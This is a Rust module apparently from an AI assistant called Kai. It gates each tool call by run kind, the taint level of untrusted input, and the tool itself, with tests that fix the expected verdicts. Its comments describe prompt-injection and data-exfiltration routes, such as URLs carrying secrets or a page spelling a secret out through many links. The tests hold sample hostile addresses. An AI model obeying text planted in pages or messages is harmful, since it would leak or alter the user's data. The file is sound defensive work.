//! The gate that every tool call passes. It decides by the kind of run, the level of the request, and the tool.
//!
//! Text that a stranger wrote must not be able to make Kai send anything out or change what Kai stores. So an
//! unattended run is offered only a few tools, and a chat asks the user before a call that could leak something, plant
//! something for later or delete something. What it asks about depends on what the request has read; see [`Level`].

use kai_llm::{Message, ToolCall};
use serde::{Deserialize, Serialize};

use crate::untrusted::Attached;

/// The kind of run, which says whether the user is present.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RunKind {
    /// The user is waiting for the answer.
    Chat,
    /// A heartbeat; nobody is present.
    Heartbeat,
    /// A scheduled task; nobody is present.
    Task,
    /// Another program that asks Kai over MCP. It may read and draft what the user enabled, and nothing else.
    Guest,
}

/// How much untrusted text a request contains: the highest level of anything in it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Default, Serialize, Deserialize)]
#[serde(from = "LevelInFile", rename_all = "lowercase")]
pub enum Level {
    /// Only the user's words and our own.
    #[default]
    Nothing,
    /// Web pages, search results and attachments: others wrote them, but not to this user.
    Web,
    /// SMS, notifications and anything else that others send to the user: anybody can write there.
    People,
}

impl Level {
    pub const ALL: [Self; 3] = [Self::Nothing, Self::Web, Self::People];

    pub fn is_nothing(&self) -> bool {
        *self == Self::Nothing
    }

    pub fn as_str(self) -> &'static str {
        match self {
            Self::Nothing => "nothing",
            Self::Web => "web",
            Self::People => "people",
        }
    }

    /// The number under which it is stored.
    pub(crate) fn stored(self) -> i64 {
        match self {
            Self::Nothing => 0,
            Self::Web => 1,
            Self::People => 2,
        }
    }

    /// Parses a stored number; an unknown one counts as the highest level.
    pub(crate) fn of_stored(number: i64) -> Self {
        Self::ALL.into_iter().find(|level| level.stored() == number).unwrap_or(Self::People)
    }
}

/// A level as export files write it. Older files say only whether something was tainted.
#[derive(Deserialize)]
#[serde(untagged)]
enum LevelInFile {
    Tainted(bool),
    Named(String),
}

impl From<LevelInFile> for Level {
    fn from(written: LevelInFile) -> Self {
        match written {
            LevelInFile::Tainted(false) => Self::Nothing,
            LevelInFile::Tainted(true) => Self::People,
            LevelInFile::Named(name) => {
                Self::ALL.into_iter().find(|level| level.as_str() == name).unwrap_or(Self::People)
            }
        }
    }
}

/// What happens with a call.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Verdict {
    Run,
    /// The user must approve exactly this call.
    AskFirst,
    /// The tool is not available in this kind of run, or not at this level.
    Refuse,
}

/// The harm that a tool could do if a stranger's text steered it. Every tool has a row; a tool without one counts as
/// [`Reach::Outward`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Reach {
    /// Only reads; nothing is sent out and nothing lasting is stored. The result may raise the level: the tool declares
    /// that with it.
    Looks,
    /// Creates a draft; the user approves it by tapping Send.
    Stages,
    /// Changes what Kai remembers or does later.
    Persists,
    /// Creates a proposal for the user; only heartbeats and tasks do this, because only they review what was learned.
    Proposes,
    /// Deletes something of the user's, or shows or stores something on their device; only while the user is present.
    Changes,
    /// Runs commands, or has unknown effects.
    Outward,
    /// Queries a service that the user chose.
    Asks,
    /// Opens an address that the call names.
    Visits,
    /// Searches the web.
    Searches,
    /// Reads a page at an address that the call names.
    Fetches,
}

const TABLE: &[(&str, Reach)] = &[
    ("cancel_task", Reach::Changes),
    ("check_drafts", Reach::Looks),
    ("check_email", Reach::Looks),
    #[cfg(feature = "sms")]
    ("check_sms", Reach::Looks),
    #[cfg(feature = "notifications")]
    ("check_notifications", Reach::Looks),
    ("compose_email", Reach::Stages),
    ("create_calendar_event", Reach::Changes),
    #[cfg(feature = "notifications")]
    ("dismiss_notification", Reach::Changes),
    ("execute_shell_command", Reach::Outward),
    ("fetch_url", Reach::Fetches),
    ("find_tools", Reach::Looks),
    ("get_local_time", Reach::Looks),
    ("get_location_from_ip", Reach::Asks),
    ("list_tasks", Reach::Looks),
    ("memory_forget", Reach::Changes),
    ("memory_learn", Reach::Persists),
    // It only increments a counter, so an unattended run may use it too.
    ("memory_reinforce", Reach::Looks),
    ("memory_store", Reach::Persists),
    ("promote_learning", Reach::Proposes),
    ("open_url", Reach::Visits),
    ("read_email", Reach::Looks),
    ("reply_email", Reach::Stages),
    ("search_email", Reach::Looks),
    ("setup_email", Reach::Looks),
    #[cfg(feature = "notifications")]
    ("read_notification", Reach::Looks),
    #[cfg(feature = "notifications")]
    ("search_notifications", Reach::Looks),
    #[cfg(feature = "sms")]
    ("read_sms", Reach::Looks),
    #[cfg(all(feature = "sms", feature = "notifications"))]
    ("reply_notification", Reach::Stages),
    #[cfg(feature = "sms")]
    ("reply_sms", Reach::Stages),
    #[cfg(feature = "sms")]
    ("search_sms", Reach::Looks),
    ("schedule_task", Reach::Persists),
    ("send_notification", Reach::Changes),
    #[cfg(feature = "sms")]
    ("send_sms", Reach::Stages),
    ("set_alarm", Reach::Changes),
    ("shell_command", Reach::Outward),
    (SEARCH, Reach::Searches),
];
const SEARCH: &str = "web_search";

fn reach(tool: &str) -> Option<Reach> {
    TABLE.iter().find(|(name, _)| *name == tool).map(|(_, reach)| *reach)
}

/// The tools that guests may call. Each reads, or makes a draft that waits for the user's tap.
const FOR_GUESTS: &[&str] = &[
    "check_drafts",
    "check_email",
    #[cfg(feature = "notifications")]
    "check_notifications",
    #[cfg(feature = "sms")]
    "check_sms",
    "compose_email",
    "list_tasks",
    "read_email",
    #[cfg(feature = "notifications")]
    "read_notification",
    #[cfg(feature = "sms")]
    "read_sms",
    #[cfg(all(feature = "sms", feature = "notifications"))]
    "reply_notification",
    #[cfg(feature = "sms")]
    "reply_sms",
    "reply_email",
    "search_email",
    #[cfg(feature = "notifications")]
    "search_notifications",
    #[cfg(feature = "sms")]
    "search_sms",
    #[cfg(feature = "sms")]
    "send_sms",
];

/// What the user allows a tool of an MCP server.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ForeignRights {
    /// It asks before each call. It does not if it announces that it only reads, or if the user said so.
    pub asks: bool,
    /// It announces that it only reads, and the user lets tasks use it.
    pub in_tasks: bool,
}

/// Decides whether a tool of an MCP server may run. Nobody knows what it does with what it is given, so after anything
/// was read every call needs a click, and unattended runs get it only if nothing was read and the user allowed it.
pub fn foreign(kind: RunKind, level: Level, rights: ForeignRights) -> Verdict {
    match kind {
        RunKind::Chat if level == Level::Nothing && !rights.asks => Verdict::Run,
        RunKind::Chat => Verdict::AskFirst,
        RunKind::Task if level == Level::Nothing && rights.in_tasks => Verdict::Run,
        RunKind::Task | RunKind::Heartbeat | RunKind::Guest => Verdict::Refuse,
    }
}

/// Decides whether a call may run, in a request at that level with these `messages`.
///
/// A web page could ask for an address that has something private written into it. So at [`Level::Web`], only an
/// address that a search listed or that the user wrote is fetched or opened without asking. Links inside pages do not
/// count: a page could offer one link per letter and so have a secret spelled out.
pub fn judge(kind: RunKind, level: Level, messages: &[Message], call: &ToolCall) -> Verdict {
    let named = matches!(reach(&call.name), Some(Reach::Visits | Reach::Fetches));
    let unlisted = named && level == Level::Web && !listed(messages, call);
    match verdict(kind, level, &call.name) {
        Verdict::Run if unlisted && kind == RunKind::Chat => Verdict::AskFirst,
        Verdict::Run if unlisted => Verdict::Refuse,
        verdict => verdict,
    }
}

/// Whether the call's address appears exactly so in a search result or in the user's own words. Attachments do not
/// count as the user's words.
fn listed(messages: &[Message], call: &ToolCall) -> bool {
    let arguments: serde_json::Value = serde_json::from_str(&call.arguments).unwrap_or_default();
    let Some(url) = arguments.get("url").and_then(serde_json::Value::as_str) else { return false };
    // The field as it is serialised in a result. Inside a title or an excerpt the quotes would be escaped, so it cannot
    // match there.
    let field = format!("\"url\":{}", serde_json::Value::from(url));
    messages.iter().any(|message| match message {
        Message::Tool { tool, result, .. } => tool == SEARCH && result.contains(&field),
        Message::User { text, .. } => Attached::find(text)
            .words
            .split_whitespace()
            .any(|word| word == url || word.trim_matches(|c| "<>()[]\"'.,;:!?".contains(c)) == url),
        Message::Assistant { .. } => false,
    })
}

/// Decides whether `tool` may run, regardless of its arguments. For tools that take an address, this assumes one that
/// was listed; [`judge`] checks that.
pub fn verdict(kind: RunKind, level: Level, tool: &str) -> Verdict {
    let reach = reach(tool).unwrap_or(Reach::Outward);
    match kind {
        RunKind::Chat => in_chat(reach, level),
        RunKind::Heartbeat | RunKind::Task => unattended(kind, reach, level),
        RunKind::Guest if FOR_GUESTS.contains(&tool) => Verdict::Run,
        RunKind::Guest => Verdict::Refuse,
    }
}

fn in_chat(reach: Reach, level: Level) -> Verdict {
    let asks_from = match reach {
        Reach::Proposes => return Verdict::Refuse,
        Reach::Looks | Reach::Stages => return Verdict::Run,
        Reach::Persists | Reach::Outward => Level::Web,
        Reach::Changes | Reach::Asks | Reach::Visits | Reach::Searches | Reach::Fetches => Level::People,
    };
    if level >= asks_from { Verdict::AskFirst } else { Verdict::Run }
}

fn unattended(kind: RunKind, reach: Reach, level: Level) -> Verdict {
    match reach {
        Reach::Looks | Reach::Stages | Reach::Proposes => Verdict::Run,
        Reach::Searches | Reach::Fetches if kind == RunKind::Task && level <= Level::Web => Verdict::Run,
        Reach::Persists
        | Reach::Changes
        | Reach::Outward
        | Reach::Asks
        | Reach::Visits
        | Reach::Searches
        | Reach::Fetches => Verdict::Refuse,
    }
}

/// The names of all tools that have a row.
pub fn tools() -> impl Iterator<Item = &'static str> {
    TABLE.iter().map(|(tool, _)| *tool)
}

/// The level of a message from the user. Text that they attached was written by somebody else.
pub fn said(text: &str) -> Level {
    match Attached::find(text) {
        Attached { attachment: None, .. } => Level::Nothing,
        Attached { is_message: true, .. } => Level::People,
        Attached { .. } => Level::Web,
    }
}

/// The level that a result raises, given the `taint` that its tool declared. A tool without a row is not trusted with
/// that: its results count as [`Level::People`].
pub fn raised(tool: &str, taint: Level) -> Level {
    if reach(tool).is_some() { taint } else { Level::People }
}

/// Whether the tool only reads: it stores nothing and makes no draft.
pub fn only_reads(tool: &str) -> bool {
    reach(tool) == Some(Reach::Looks)
}

/// Whether the tool is offered to a model in this kind of run, at this level.
pub fn offered(kind: RunKind, level: Level, tool: &str) -> bool {
    verdict(kind, level, tool) != Verdict::Refuse
}

#[cfg(test)]
mod tests {
    use super::*;

    fn result(tool: &str, result: &serde_json::Value) -> Message {
        let call = kai_llm::CallId("1".to_owned());
        Message::Tool { call, tool: tool.to_owned(), result: result.to_string() }
    }

    /// What a tool declares about its results counts only if the tool has a row.
    #[test]
    fn results_of_a_tool_without_a_row_count_as_peoples() {
        for taint in Level::ALL {
            assert!(tools().all(|tool| raised(tool, taint) == taint));
            assert_eq!(raised("something_new", taint), Level::People);
        }
    }

    #[test]
    fn a_level_is_read_as_older_files_told_it_and_the_unknown_is_the_highest() {
        for (told, expected) in [
            ("false", Level::Nothing),
            ("true", Level::People),
            ("\"nothing\"", Level::Nothing),
            ("\"web\"", Level::Web),
            ("\"people\"", Level::People),
            ("\"something new\"", Level::People),
        ] {
            assert_eq!(serde_json::from_str::<Level>(told).unwrap(), expected, "{told}");
        }
        for level in Level::ALL {
            assert_eq!(Level::of_stored(level.stored()), level);
            assert_eq!(serde_json::to_value(level).unwrap(), level.as_str());
        }
        assert_eq!(Level::of_stored(7), Level::People);
    }

    /// The expected verdicts in a chat, a heartbeat, a task and for a guest, each at the levels nothing, web and people, for an
    /// address that was listed. Written by hand, because these are what we promise.
    const PROMISED: &[(&str, &str)] = &[
        ("cancel_task", "run run ask  no no no  no no no  no no no"),
        ("check_drafts", "run run run  run run run  run run run  run run run"),
        ("check_email", "run run run  run run run  run run run  run run run"),
        #[cfg(feature = "notifications")]
        ("check_notifications", "run run run  run run run  run run run  run run run"),
        #[cfg(feature = "sms")]
        ("check_sms", "run run run  run run run  run run run  run run run"),
        ("compose_email", "run run run  run run run  run run run  run run run"),
        ("create_calendar_event", "run run ask  no no no  no no no  no no no"),
        #[cfg(feature = "notifications")]
        ("dismiss_notification", "run run ask  no no no  no no no  no no no"),
        ("execute_shell_command", "run ask ask  no no no  no no no  no no no"),
        ("fetch_url", "run run ask  no no no  run run no  no no no"),
        ("find_tools", "run run run  run run run  run run run  no no no"),
        ("get_local_time", "run run run  run run run  run run run  no no no"),
        ("get_location_from_ip", "run run ask  no no no  no no no  no no no"),
        ("list_tasks", "run run run  run run run  run run run  run run run"),
        ("memory_forget", "run run ask  no no no  no no no  no no no"),
        ("memory_learn", "run ask ask  no no no  no no no  no no no"),
        ("memory_reinforce", "run run run  run run run  run run run  no no no"),
        ("memory_store", "run ask ask  no no no  no no no  no no no"),
        ("open_url", "run run ask  no no no  no no no  no no no"),
        ("promote_learning", "no no no  run run run  run run run  no no no"),
        ("read_email", "run run run  run run run  run run run  run run run"),
        #[cfg(feature = "notifications")]
        ("read_notification", "run run run  run run run  run run run  run run run"),
        #[cfg(feature = "sms")]
        ("read_sms", "run run run  run run run  run run run  run run run"),
        ("reply_email", "run run run  run run run  run run run  run run run"),
        #[cfg(all(feature = "sms", feature = "notifications"))]
        ("reply_notification", "run run run  run run run  run run run  run run run"),
        #[cfg(feature = "sms")]
        ("reply_sms", "run run run  run run run  run run run  run run run"),
        ("schedule_task", "run ask ask  no no no  no no no  no no no"),
        ("search_email", "run run run  run run run  run run run  run run run"),
        #[cfg(feature = "notifications")]
        ("search_notifications", "run run run  run run run  run run run  run run run"),
        #[cfg(feature = "sms")]
        ("search_sms", "run run run  run run run  run run run  run run run"),
        ("send_notification", "run run ask  no no no  no no no  no no no"),
        #[cfg(feature = "sms")]
        ("send_sms", "run run run  run run run  run run run  run run run"),
        ("set_alarm", "run run ask  no no no  no no no  no no no"),
        ("setup_email", "run run run  run run run  run run run  no no no"),
        ("shell_command", "run ask ask  no no no  no no no  no no no"),
        ("web_search", "run run ask  no no no  run run no  no no no"),
    ];

    #[test]
    fn every_tool_in_every_run_at_every_level() {
        let mut known: Vec<&str> = tools().collect();
        known.sort_unstable();
        let promised: Vec<&str> = PROMISED.iter().map(|(tool, _)| *tool).collect();
        assert_eq!(known, promised, "every tool has a row in both");
        let unknown = [("something_new", "run ask ask  no no no  no no no  no no no")];
        for (tool, expected) in PROMISED.iter().chain(&unknown) {
            let word = |(kind, level)| match verdict(kind, level, tool) {
                Verdict::Run => "run",
                Verdict::AskFirst => "ask",
                Verdict::Refuse => "no",
            };
            let words: Vec<&str> = cases().map(word).collect();
            assert_eq!(words, expected.split_whitespace().collect::<Vec<_>>(), "{tool}");
        }
    }

    fn cases() -> impl Iterator<Item = (RunKind, Level)> {
        let kinds = [RunKind::Chat, RunKind::Heartbeat, RunKind::Task, RunKind::Guest];
        kinds.into_iter().flat_map(|kind| Level::ALL.map(|level| (kind, level)))
    }

    /// The same promises for tools of MCP servers: the first that asks, the second that does not, the third that tasks
    /// may use too.
    #[test]
    fn every_tool_of_an_mcp_server() {
        for (asks, in_tasks, expected) in [
            (true, false, "ask ask ask  no no no  no no no  no no no"),
            (false, false, "run ask ask  no no no  no no no  no no no"),
            (false, true, "run ask ask  no no no  run no no  no no no"),
        ] {
            let word = |(kind, level)| match foreign(kind, level, ForeignRights { asks, in_tasks }) {
                Verdict::Run => "run",
                Verdict::AskFirst => "ask",
                Verdict::Refuse => "no",
            };
            let words: Vec<&str> = cases().map(word).collect();
            assert_eq!(
                words,
                expected.split_whitespace().collect::<Vec<_>>(),
                "asks: {asks}, in tasks: {in_tasks}"
            );
        }
    }

    #[test]
    fn after_a_page_only_listed_addresses_are_reached_without_asking() {
        use RunKind::{Chat, Heartbeat, Task};
        use Verdict::{AskFirst, Refuse, Run};
        let said = Message::user(Attached::to(
            "See (https://mine.test/a) or HTTPS://B.test.",
            "or https://file.test/ there",
        ));
        let hit = serde_json::json!({"title": "t", "url": "https://hit.test/?a=\"1\"", "snippet": "\"url\":\"https://no.test/\""});
        let found = result("web_search", &serde_json::json!({"results": [hit], "untrusted": true}));
        let page = result(
            "fetch_url",
            &serde_json::json!({"url": "https://was.test/", "text": "https://link.test/"}),
        );
        let fresh = (Level::Nothing, vec![Message::user("hello".to_owned())]);
        let web = (Level::Web, vec![said, found, page]);
        let strange = (Level::People, web.1.clone());
        for (name, (level, messages), tool, url, chat, task) in [
            ("nothing read yet", &fresh, "fetch_url", "https://new.test/", Run, Run),
            ("nothing read yet", &fresh, "open_url", "https://new.test/", Run, Refuse),
            ("made up after a page", &web, "fetch_url", "https://evil.test/?d=secret", AskFirst, Refuse),
            ("made up after a page", &web, "open_url", "https://evil.test/?d=secret", AskFirst, Refuse),
            ("listed by a search", &web, "fetch_url", "https://hit.test/?a=\"1\"", Run, Run),
            ("listed by a search", &web, "open_url", "https://hit.test/?a=\"1\"", Run, Refuse),
            ("listed, and more", &web, "fetch_url", "https://hit.test/?a=\"1\"&b", AskFirst, Refuse),
            ("listed, and more", &web, "open_url", "https://hit.test/?a=\"1\"&b", AskFirst, Refuse),
            ("in a result's excerpt", &web, "fetch_url", "https://no.test/", AskFirst, Refuse),
            ("a link in a page", &web, "fetch_url", "https://link.test/", AskFirst, Refuse),
            ("a link in a page", &web, "open_url", "https://link.test/", AskFirst, Refuse),
            ("a link in an attachment", &web, "fetch_url", "https://file.test/", AskFirst, Refuse),
            ("the person wrote it", &web, "fetch_url", "https://mine.test/a", Run, Run),
            ("a part of what the person wrote", &web, "fetch_url", "https://mine.test/", AskFirst, Refuse),
            ("no address at all", &web, "fetch_url", "", AskFirst, Refuse),
            ("a search", &web, "web_search", "", Run, Run),
            ("a memory after a page", &web, "memory_store", "", AskFirst, Refuse),
            ("a task after a page", &web, "schedule_task", "", AskFirst, Refuse),
            ("a forgotten memory after a page", &web, "memory_forget", "", Run, Refuse),
            ("a memory after a stranger", &strange, "memory_store", "", AskFirst, Refuse),
            ("a forgotten memory after a stranger", &strange, "memory_forget", "", AskFirst, Refuse),
            ("listed, but after a stranger", &strange, "fetch_url", "https://mine.test/a", AskFirst, Refuse),
            ("listed, but after a stranger", &strange, "open_url", "https://mine.test/a", AskFirst, Refuse),
            ("a search after a stranger", &strange, "web_search", "", AskFirst, Refuse),
        ] {
            let arguments = serde_json::json!({"url": url}).to_string();
            let call = ToolCall {
                id: kai_llm::CallId("2".to_owned()),
                name: tool.to_owned(),
                arguments,
                signature: None,
            };
            assert_eq!(judge(Chat, *level, messages, &call), chat, "{tool}, {name}");
            assert_eq!(judge(Task, *level, messages, &call), task, "{tool}, {name}, in a task");
            assert_eq!(judge(Heartbeat, *level, messages, &call), Refuse, "{tool}, {name}, in a heartbeat");
        }
    }
}
